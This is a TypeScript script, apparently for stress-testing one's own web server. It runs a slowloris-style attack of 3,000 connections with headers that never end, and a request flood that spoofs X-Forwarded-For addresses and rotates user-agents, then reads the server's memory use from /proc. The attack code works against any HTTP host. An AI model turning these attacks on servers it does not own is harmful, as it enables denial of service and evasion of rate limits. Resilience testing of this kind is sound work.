// Attacks a server that runs, from outside, over real connections, and tells what became of it:
//
//   node scripts/attack.ts PID http://127.0.0.1:8080 [NAME …]
//
// For a server of your own: it begins with `connections` (3,000 heads that never end) and `names` (new pages from one
// address). PID is the server's, whose memory is read.

import { readFileSync } from 'node:fs'
import { Agent, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

const [pid = '', base = '', ...chosen] = process.argv.slice(2)
if (!/^\d+$/.test(pid) || !URL.canParse(base)) {
  console.error('Say whom to attack: node scripts/attack.ts PID http://127.0.0.1:8080 [connections|names]')
  process.exit(2)
}
const { hostname, port } = new URL(base)
const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/'

const attacks: Record<string, () => Promise<string>> = {
  async connections() {
    const before = memory()
    const held = await Promise.all(Array.from({ length: 3000 }, holdHead))
    await pause(1000)
    const during = memory()
    const open = held.filter(({ closed, destroyed }) => !closed && !destroyed).length
    const status = await ask('/status', {})
    for (const socket of held) socket.destroy()
    await pause(15_000)
    return `${open} of 3000 stayed open, memory ${before} → ${during} → ${memory()} MB, /status in between ${status}`
  },
  async names() {
    const agent = new Agent({ keepAlive: true, maxSockets: 32 })
    const sent = await Promise.all(
      Array.from({ length: 5000 }, (_, place) => count(`/made-up-${place}`, '203.0.113.9', place, agent)),
    )
    const launch = await Promise.all(
      Array.from({ length: 50 }, (_, place) => count(`/launch-${place}`, `198.51.${place}.1`, place, agent)),
    )
    agent.destroy()
    return `${tell(sent)} of the flood, ${tell(launch)} of the launch`
  },
}

for (const [name, attack] of Object.entries(attacks)) {
  if (chosen.length === 0 || chosen.includes(name)) console.log(`${name}: ${await attack()}`)
}

/** A connection with 30 KB of a head that does not end. */
function holdHead(): Promise<Socket> {
  return new Promise(resolve => {
    const socket = connect(Number(port), hostname, () => {
      socket.write(`GET / HTTP/1.1\r\nHost: ${hostname}\r\nX: ${'a'.repeat(30_000)}`, () => resolve(socket))
    })
    socket.on('error', () => resolve(socket))
    socket.resume()
  })
}

function count(path: string, address: string, place: number, agent: Agent): Promise<number> {
  const headers = { 'user-agent': `${browser}${place}`, 'x-forwarded-for': address }
  return ask(`/count?p=${path}`, headers, agent)
}

/** The status of the answer; 0 where none came. */
function ask(path: string, headers: Record<string, string>, agent?: Agent): Promise<number> {
  return new Promise(resolve => {
    request(base + path, { headers, ...(agent && { agent }) }, answer => {
      answer.resume()
      answer.on('end', () => resolve(answer.statusCode ?? 0))
    })
      .on('error', () => resolve(0))
      .end()
  })
}

function tell(statuses: readonly number[]): string {
  const all = Object.groupBy(statuses, String)
  return Object.entries(all)
    .map(([status, some]) => `${some?.length} × ${status}`)
    .join(', ')
}

/** What the server holds, in MB. */
function memory(): number {
  const [, kilobytes = '0'] = /VmRSS:\s*(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8')) ?? []
  return Math.round(Number(kilobytes) / 1024)
}
